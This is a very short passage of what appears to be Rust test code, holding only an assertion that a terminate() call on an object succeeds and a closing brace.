    assert!(s.terminate().success());
}
